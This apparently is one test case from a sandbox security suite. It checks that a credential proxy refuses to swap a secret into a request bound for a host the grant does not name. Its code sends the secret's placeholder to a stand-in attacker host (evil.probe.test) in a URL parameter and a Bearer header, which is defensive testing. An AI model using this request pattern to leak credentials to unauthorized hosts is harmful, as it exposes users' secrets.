from ._net import PROXY, allow

ID = "net.secret-other-host"
CATEGORY = "network"
DESCRIPTION = ("a credential granted for sink.probe.test only: send its placeholder to another "
               "allowed name (evil.probe.test) in a header and the URL, hoping the proxy swaps it in")
CLAIMS = ("rule:network.mode",)
POLICY = {**allow("*.{DOMAIN}:{SINK_PORT}"),
          "secrets": {"PROBE_GRANT": {"from": "env:CORRAL_PROBE_SECRET", "plain_http": True,
                                      "hosts": ["sink.{DOMAIN}:{SINK_PORT}"]}}}
CODE = PROXY + """
ph = os.environ.get("PROBE_GRANT", "")
host = os.environ.get("PROBE_TARGET") or f"evil.{DOMAIN}"
if not ph:
    out("UNSUPPORTED", "no placeholder in the environment")
else:
    get(f"{host}:{SINK_PORT}", path=f"/x?k={ph}", headers=f"Authorization: Bearer {ph}\\r\\n")
"""
# the same request to the granted host: the proxy swaps the real value in (the token
# reaches the sink), which is what the attack tries to get for a host no grant names
CONTROL = {"policy": {"env": {"set": {"PROBE_TARGET": "sink.{DOMAIN}"}}}}
CONTAINED = "the proxy refuses the placeholder bound for a host no grant names: the real value never leaves"
